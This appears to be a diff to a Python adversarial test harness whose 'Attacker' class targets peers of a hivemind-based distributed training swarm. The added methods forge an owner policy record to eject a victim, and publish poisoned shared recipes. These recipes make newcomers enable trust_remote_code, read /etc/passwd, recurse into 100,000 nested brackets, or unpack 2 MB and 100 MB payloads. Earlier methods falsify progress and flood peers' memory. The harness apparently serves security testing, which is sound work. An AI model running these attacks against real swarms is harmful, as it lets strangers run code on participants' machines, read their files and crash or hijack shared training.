@@ -12,12 +12,15 @@ import argparse
 import asyncio
 import base64
 import contextlib
+import hashlib
 import json
 import math
 import time
+import zlib
 from collections.abc import AsyncIterator, Awaitable, Callable
 from typing import Any
 
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from hivemind.dht.crypto import RSASignatureValidator
 from hivemind.dht.protocol import DHTProtocol
 from hivemind.dht.routing import DHTID
@@ -195,7 +198,8 @@ class Attacker:
             "time": get_dht_time(),
             "client_mode": True,
         }
-        ours = {"samples_committed": 0, "history": bytes(16), "leases": [], "client_mode": False}
+        ours = {"samples_committed": 0, "history": bytes(16), "client_mode": False}
+        ours |= {"leases": [], "rounds": b"", "states": b""}
         return plain | (ours if self.dialect == "trahiv" else {}) | changed
 
     async def write_a_record(self) -> None:
@@ -219,26 +223,26 @@ class Attacker:
         """Say that this peer has brought all samples of the step, wherever the others are."""
         lie = {"samples_accumulated": 10**9, "samples_per_second": 1e30}
         if self.dialect == "trahiv":
-            theirs = await self.read_reports()
+            theirs = [told for told in await self.read("progress") if isinstance(told, dict)]
             theirs.sort(key=lambda report: report["epoch"])
             lie |= {name: theirs[-1][name] for name in ("epoch", "samples_committed", "history")}
         await self.store(self.report(**lie))
 
-    async def read_reports(self) -> list[dict[str, Any]]:
-        """Read the progress records of others."""
-        request = dht_pb2.FindRequest(keys=[self._key()], peer=dht_pb2.NodeInfo())
+    async def read(self, name: str) -> list[Any]:
+        """Read what others store under a key of the run."""
+        request = dht_pb2.FindRequest(keys=[self._key(name)], peer=dht_pb2.NodeInfo())
         answer = dht_pb2.FindResponse.FromString(
             await self.call(f"{self.dht}.rpc_find", request.SerializeToString())
         )
         found = DHTProtocol.serializer.loads(answer.results[0].value)
         validator = RSASignatureValidator(self.key)
-        reports = []
+        values = []
         for place, entry in found.items():
             record = DHTRecord(
-                self._key(), MSGPackSerializer.dumps(place), entry.value, entry.expiration_time
+                self._key(name), MSGPackSerializer.dumps(place), entry.value, entry.expiration_time
             )
-            reports.append(MSGPackSerializer.loads(validator.strip_value(record)))
-        return [report for report in reports if isinstance(report, dict)]
+            values.append(MSGPackSerializer.loads(validator.strip_value(record)))
+        return values
 
     async def store_10_mb(self) -> None:
         """Store a record that is larger than any of the others."""
@@ -268,6 +272,43 @@ class Attacker:
         """Store a plain value where all members look for each other."""
         await self.store(b"mine", place=b"", signed=False, key=self._key("grad_averager.0b"))
 
+    async def decide_in_the_owner_s_place(self) -> None:
+        """Take the victim out of its own swarm, in a record that comes after all of the owner's."""
+        out = hashlib.sha256(self.victim.to_bytes()).digest()[:8]
+        content = MSGPackSerializer.dumps([2**40, 0, out, b"", b""])
+        signature = Ed25519PrivateKey.generate().sign(b"trahiv: the owner decides " + content)
+        await self.store(signature + content, key=DHTID.generate(source="trahiv_policy").to_bytes())
+
+    async def _publish_recipe(self, text: bytes) -> None:
+        await self.store(zlib.compress(text, level=9), key=self._key("recipe"))
+
+    async def _changed_recipe(self, section: str, **changed: Any) -> bytes:
+        """The swarm's own recipe, but for some fields of a section."""
+        [packed, *_] = await self.read("recipe")
+        recipe = json.loads(zlib.decompress(packed))
+        recipe["shared"][section] |= changed
+        return json.dumps(recipe).encode()
+
+    async def publish_a_recipe_with_code(self) -> None:
+        """Have newcomers run code from a hub."""
+        await self._publish_recipe(await self._changed_recipe("model", trust_remote_code=True))
+
+    async def publish_a_recipe_with_a_path(self) -> None:
+        """Have newcomers read a file of theirs."""
+        await self._publish_recipe(await self._changed_recipe("data", datasets=[{"path": "/etc/passwd"}]))
+
+    async def publish_a_deep_recipe(self) -> None:
+        """Have newcomers recurse until they fall over."""
+        await self._publish_recipe(b'{"v": 1, "shared": ' + b"[" * 10**5)
+
+    async def publish_a_recipe_that_grows(self) -> None:
+        """Have newcomers unpack 2 MB of what fits into a record."""
+        await self._publish_recipe(b'{"v": 1, "shared": ' + b" " * 2 * 10**6)
+
+    async def publish_a_recipe_of_100_mb(self) -> None:
+        """Have newcomers unpack 100 MB."""
+        await self._publish_recipe(b" " * 10**8)
+
     async def store_10000_records(self) -> None:
         """Fill the victim's memory."""
         kept = 0
@@ -295,10 +336,12 @@ def _bomb() -> runtime_pb2.Tensor:
     return runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))
 
 
+NO_ATTACKS = ("call", "stream", "store", "read", "_publish_recipe", "_changed_recipe")
+
 ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
     name: method
     for name, method in vars(Attacker).items()
-    if asyncio.iscoroutinefunction(method) and name not in ("call", "stream", "store", "read_reports")
+    if asyncio.iscoroutinefunction(method) and name not in NO_ATTACKS
 }
 
 
